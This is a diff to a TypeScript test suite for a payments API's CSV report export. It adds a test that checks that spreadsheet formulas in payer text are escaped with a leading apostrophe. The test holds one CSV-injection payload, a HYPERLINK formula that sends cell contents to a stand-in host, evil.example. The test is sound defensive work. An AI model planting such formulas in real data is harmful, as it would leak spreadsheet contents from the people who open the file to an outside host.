@@ -56,6 +56,8 @@ async function merchantWithPayments() {
     await answeredPayment(api, tokenA, paid.body.id);
   };
   await pay('120.50', 'Factura "A-1", línea 1\nlínea 2');
+  // A payer's text that a spreadsheet would run as a formula (OWASP's CSV injection).
+  await pay('130.00', '=HYPERLINK("https://evil.example/?d="&A1,"Ver factura")');
   // .99: the sandbox network rejects it.
   await pay('10.99');
   const received = await api.request('POST', '/sandbox/payments/inbound', {
@@ -90,7 +92,7 @@ it("a payments report holds, row for row, what GET /v1/payments lists; another c
   });
 
   const report = await finishedReport(api, tokenA, asked.id);
-  expect(report.body).toMatchObject({ status: 'SUCCEEDED', row_count: 3 });
+  expect(report.body).toMatchObject({ status: 'SUCCEEDED', row_count: 4 });
   expect(Date.parse(report.body.expires_at) - Date.now()).toBeGreaterThan(14 * 60 * 1000);
   expect(Date.parse(report.body.expires_at) - Date.now()).toBeLessThanOrEqual(15 * 60 * 1000);
 
@@ -108,6 +110,10 @@ it("a payments report holds, row for row, what GET /v1/payments lists; another c
   for (const payment of listed)
     for (const name of Object.keys(expectedRow(header, payment))) expect(header).toContain(name);
   expect(rows.find((row) => row['amount_value'] === '120.50')!['description']).toBe('Factura "A-1", línea 1\nlínea 2');
+  // The formula reaches the spreadsheet as text: an apostrophe first.
+  expect(rows.find((row) => row['amount_value'] === '130.00')!['description']).toBe(
+    `'=HYPERLINK("https://evil.example/?d="&A1,"Ver factura")`,
+  );
 
   // Another client: 404 for the report, none of it in its list.
   expectProblem(await api.request('GET', `/v1/reports/${asked.id}`, { token: tokenB }), 404, 'NOT_FOUND');
@@ -126,7 +132,7 @@ it("a movements report holds what GET /v1/accounts/{id}/movements lists; another
   const filters = { account_id: merchant.accountId, created_from: day(-1), created_to: day(1) };
   const asked = await requestReport({ type: 'movements', ...filters });
   const report = await finishedReport(api, tokenA, asked.id);
-  expect(report.body).toMatchObject({ status: 'SUCCEEDED', row_count: 5 });
+  expect(report.body).toMatchObject({ status: 'SUCCEEDED', row_count: 6 });
 
   const { header, rows } = parseCsv(await (await download(report.body.download_url)).text());
   expect(header).toEqual(['id', 'kind', 'amount_value', 'amount_currency', 'payment_id', 'refund_id', 'created_at']);
@@ -135,7 +141,8 @@ it("a movements report holds what GET /v1/accounts/{id}/movements lists; another
     created_to: filters.created_to,
   });
   expect(rows).toEqual(listed.map((movement) => expectedRow(header, movement)));
-  expect(rows.map((row) => row['amount_value'])).toEqual(['900.00', '-120.50', '-10.99', '10.99', '75.25']);
+  // Debits stay numbers (a leading minus is no formula when the field is a number).
+  expect(rows.map((row) => row['amount_value'])).toEqual(['900.00', '-120.50', '-130.00', '-10.99', '10.99', '75.25']);
 
   // Another client's account is 404, as for its movements list.
   const foreign = await api.request('POST', '/v1/reports', { token: tokenB, body: { type: 'movements', ...filters } });
